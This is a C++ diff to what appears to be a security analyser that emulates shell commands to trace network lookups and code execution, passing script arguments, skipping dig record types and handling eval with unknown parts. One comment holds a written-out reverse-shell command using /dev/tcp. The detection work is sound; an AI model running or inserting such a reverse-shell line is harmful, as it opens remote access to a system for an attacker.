@@ -411,13 +411,14 @@ class Runner {
       ev = ctx_.log.evidence(site_.line, site_.col, "reads " + printable(norm));
     return {t, ev};
   }
-  // A script file this code wrote with constant text: running it runs that text.
-  void run_written_script(const Word& file, bool python, uint32_t taint, int32_t ev) {
+  // A script file this code wrote with constant text: running it runs that
+  // text (a shell script with `args` as its arguments).
+  void run_written_script(const Word& file, bool python, uint32_t taint, int32_t ev, std::vector<Word> args = {}) {
     const std::string* text = ctx_.written_text_at(ctx_.path(file.text));
     if (!text) return;
     Word code{*text, taint, ev};
     if (python) interpret_python(code.text, ctx_, &site_, "in the script it wrote and runs", code.taint, code.ev);
-    else interpret_shell(code.text, ctx_, &site_, "in the script it wrote and runs", code.taint, code.ev);
+    else interpret_shell_script(code.text, ctx_, &site_, "in the script it wrote and runs", code.taint, code.ev, std::move(args));
   }
   // `docker run [OPTS] IMAGE CMD...` and `docker exec [OPTS] CONTAINER CMD...`:
   // the command is judged as this code's own (a reverse shell or a miner in a
@@ -625,7 +626,7 @@ CommandResult Runner::run(std::vector<Word> argv, const CommandIo& io, int depth
     // A script this code wrote, run by its name: its #! line says the language.
     if (const std::string* text = ctx_.written_text_at(norm)) {
       bool py = text->rfind("#!", 0) == 0 && text->substr(0, text->find('\n')).find("python") != std::string::npos;
-      run_written_script(argv[0], py, t, ev);
+      run_written_script(argv[0], py, t, ev, std::vector<Word>(argv.begin() + 1, argv.end()));
     }
     // An interpreter chosen at run time (py="$(find_python)"; "$py" agent.py)
     // given a script this code wrote: that script runs, in the language its
@@ -1170,6 +1171,10 @@ CommandResult Runner::run(std::vector<Word> argv, const CommandIo& io, int depth
     for (size_t k : p.operands) {
       const Word& w = argv[k];
       if (w.text.empty() || w.text[0] == '@' || w.text[0] == '+') continue;
+      // dig TXT NAME: a record type or class before the name is not the name
+      static const RE2 kTypeOrClass("(?i)(a|aaaa|any|axfr|caa|cname|dnskey|ds|hinfo|https|mx|naptr|ns|null|ptr|soa|"
+                                    "spf|srv|sshfp|svcb|tlsa|txt|in|ch|hs)");
+      if ((name == "dig" || name == "drill") && k != p.operands.back() && RE2::FullMatch(w.text, kTypeOrClass)) continue;
       effect(Eff::net_resolve, name, w.text, name + " " + line, w.taint, w.ev, 0, -1, w.taint, w.ev);
       break;
     }
@@ -1437,7 +1442,8 @@ CommandResult Runner::run(std::vector<Word> argv, const CommandIo& io, int depth
             width = std::min<size_t>(width * 10 + static_cast<size_t>(fmt[j] - '0'), 256);
           while (j < fmt.size() && (fmt[j] == '.' || fmt[j] == '*' || std::isdigit(static_cast<unsigned char>(fmt[j]))))
             ++j;
-          while (j < fmt.size() && std::strchr("hlLqjzt", fmt[j])) ++j;
+          // (q is bash's conversion %q, the argument quoted for the shell: its value as is)
+          while (j < fmt.size() && std::strchr("hlLjzt", fmt[j])) ++j;
           std::string arg = ai < rest.size() ? rest[ai++] : "";
           if (!is_partial(arg) && arg.size() < width) {
             std::string pad(width - arg.size(), zero && !left ? '0' : ' ');
@@ -1559,7 +1565,8 @@ CommandResult Runner::run(std::vector<Word> argv, const CommandIo& io, int depth
     }
     effect(Eff::code_exec, tag, name, code.text, code.taint, code.ev,
            is_partial(code.text) ? 0u : static_cast<uint32_t>(kConstTarget));
-    if (!is_partial(code.text)) nested_shell(code);
+    // Code with unknown parts runs as bash -c runs it (eval "bash -i >& /dev/tcp/$HOST/4444 0>&1").
+    if (!code.text.empty() && code.text != std::string(1, kUnknownPart)) nested_shell(code);
     return r;
   }
   if (kind == "which") {
@@ -1672,7 +1679,8 @@ CommandResult Runner::shell(const std::vector<Word>& argv, const CommandIo& io, 
     uint32_t t = ft;
     if (f.text == "/dev/stdin" || f.text == "-") t |= io.stdin_taint;
     effect(Eff::exec, "interpreter", name, name + " " + join_words(argv, 1), t, fev >= 0 ? fev : f.ev, flags);
-    run_written_script(f, false, t, fev >= 0 ? fev : f.ev);
+    run_written_script(f, false, t, fev >= 0 ? fev : f.ev,
+                       std::vector<Word>(argv.begin() + static_cast<long>(p.operands[0]) + 1, argv.end()));
     return r;
   }
   // Commands from stdin: an interactive shell.
